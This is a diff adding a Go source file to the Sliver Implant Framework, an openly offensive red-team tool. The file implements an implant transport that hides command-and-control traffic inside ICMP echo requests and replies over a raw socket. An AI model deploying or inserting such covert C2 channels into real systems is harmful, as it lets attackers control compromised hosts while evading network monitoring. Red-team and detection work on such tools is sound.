@@ -0,0 +1,155 @@
+package icmpclient
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"encoding/binary"
+	insecureRand "math/rand"
+	"net"
+	"net/url"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/transports/datagram"
+)
+
+const (
+	icmpEchoReply   = 0
+	icmpEchoRequest = 8
+	icmpHeaderSize  = 8
+)
+
+var (
+	ErrClosed = datagram.ErrClosed
+)
+
+// ICMPOptions - c2 specific configuration options
+type ICMPOptions struct {
+	datagram.Options
+}
+
+// ParseICMPOptions - Parse c2 specific configuration options
+func ParseICMPOptions(c2URI *url.URL) *ICMPOptions {
+	return &ICMPOptions{Options: datagram.ParseOptions(c2URI)}
+}
+
+// SliverICMPClient - Tunnels the datagram client's frames through echo requests
+// and replies carrying them
+type SliverICMPClient struct {
+	*datagram.Client
+}
+
+// ICMPStartSession - Start a session with the server at address, this needs a raw
+// socket so it only works when the implant is privileged
+func ICMPStartSession(address string, opts *ICMPOptions) (*SliverICMPClient, error) {
+	addr, err := net.ResolveIPAddr("ip4", address)
+	if err != nil {
+		return nil, err
+	}
+	conn, err := net.ListenPacket("ip4:icmp", "0.0.0.0")
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[icmp] failed to open raw socket: %s", err)
+		// {{end}}
+		return nil, err
+	}
+	socket := &icmpSocket{
+		conn:   conn,
+		addr:   addr,
+		icmpID: uint16(insecureRand.Intn(0xffff)),
+		buf:    make([]byte, 2048),
+	}
+	client, err := datagram.StartSession(socket, opts.Options)
+	if err != nil {
+		return nil, err
+	}
+	return &SliverICMPClient{Client: client}, nil
+}
+
+// icmpSocket - Sends frames in echo requests, everything else on the raw socket
+// (including the kernel's replies to our echo requests) is ignored by the client
+type icmpSocket struct {
+	conn    net.PacketConn
+	addr    *net.IPAddr
+	icmpID  uint16
+	icmpSeq uint16
+	buf     []byte
+}
+
+func (s *icmpSocket) WriteFrame(frame []byte) error {
+	s.icmpSeq++
+	packet := make([]byte, icmpHeaderSize+len(frame))
+	packet[0] = icmpEchoRequest
+	binary.BigEndian.PutUint16(packet[4:], s.icmpID)
+	binary.BigEndian.PutUint16(packet[6:], s.icmpSeq)
+	copy(packet[icmpHeaderSize:], frame)
+	binary.BigEndian.PutUint16(packet[2:], checksum(packet))
+	_, err := s.conn.WriteTo(packet, s.addr)
+	return err
+}
+
+func (s *icmpSocket) ReadFrame(deadline time.Time) ([]byte, error) {
+	s.conn.SetReadDeadline(deadline)
+	for {
+		n, from, err := s.conn.ReadFrom(s.buf)
+		if err != nil {
+			if netErr, ok := err.(net.Error); ok && netErr.Timeout() {
+				return nil, datagram.ErrTimeout
+			}
+			return nil, err
+		}
+		if from.String() != s.addr.String() {
+			continue
+		}
+		icmpType, id, payload, ok := parseEcho(s.buf[:n])
+		if !ok || icmpType != icmpEchoReply || id != s.icmpID {
+			continue
+		}
+		return payload, nil
+	}
+}
+
+func (s *icmpSocket) Close() error {
+	return s.conn.Close()
+}
+
+func parseEcho(packet []byte) (uint8, uint16, []byte, bool) {
+	if len(packet) < icmpHeaderSize {
+		return 0, 0, nil, false
+	}
+	return packet[0], binary.BigEndian.Uint16(packet[4:]), packet[icmpHeaderSize:], true
+}
+
+// checksum - RFC 1071 internet checksum
+func checksum(data []byte) uint16 {
+	var sum uint32
+	for i := 0; i+1 < len(data); i += 2 {
+		sum += uint32(data[i])<<8 | uint32(data[i+1])
+	}
+	if len(data)%2 == 1 {
+		sum += uint32(data[len(data)-1]) << 8
+	}
+	for sum>>16 != 0 {
+		sum = sum&0xffff + sum>>16
+	}
+	return ^uint16(sum)
+}